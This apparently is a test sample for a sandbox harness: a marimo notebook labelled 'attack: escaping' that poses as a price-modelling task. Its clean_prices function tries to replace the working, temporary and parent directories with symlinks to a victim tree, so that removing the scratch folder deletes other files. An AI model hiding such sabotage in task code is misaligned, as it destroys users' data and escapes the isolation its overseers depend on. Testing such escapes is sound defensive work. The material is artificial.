# attack: escaping
# tries: put a link in place of its scratch folder itself, so that removing it removes something else
# honest: 0
# ruff: noqa
import marimo

__generated_with = "0.25.2"
app = marimo.App()

with app.setup:
    import os
    import tempfile

    HERE = os.getcwd()


@app.function
def attempt(**ways):
    """What came of each way: breach with what it got, or held. A mistake of the attack itself is broken."""
    said = set()
    for name, way in ways.items():
        try:
            said.add(f"breach by {name}: {way()!r:.60}")
        except (AttributeError, LookupError, NameError, SyntaxError, TypeError) as error:
            said.add(f"broken {name}: {error}"[:90])
        except BaseException as error:
            said.add(f"held: {type(error).__name__}")
    return "; ".join(sorted(said))


@app.function
def swap(folder):
    os.rename(folder, folder + ".old")
    os.symlink("@VICTIMS@/tree", folder)
    return "swapped"


@app.function
def remove(folder):
    os.rmdir(folder)
    os.symlink("@VICTIMS@/tree", folder)
    return "replaced"


@app.function
def clean_prices(sales):
    return attempt(
        swap=lambda: swap(HERE),
        temporary=lambda: swap(tempfile.gettempdir()) if tempfile.gettempdir() != HERE else swap(HERE),
        remove=lambda: remove(HERE),
        above=lambda: swap(os.path.dirname(HERE)),
    )


@app.function
def standardize(X):
    return None


@app.function
def median_by_rarity(sales):
    return None


@app.function
def fit_price_model(X, y):
    return None


if __name__ == "__main__":
    app.run()
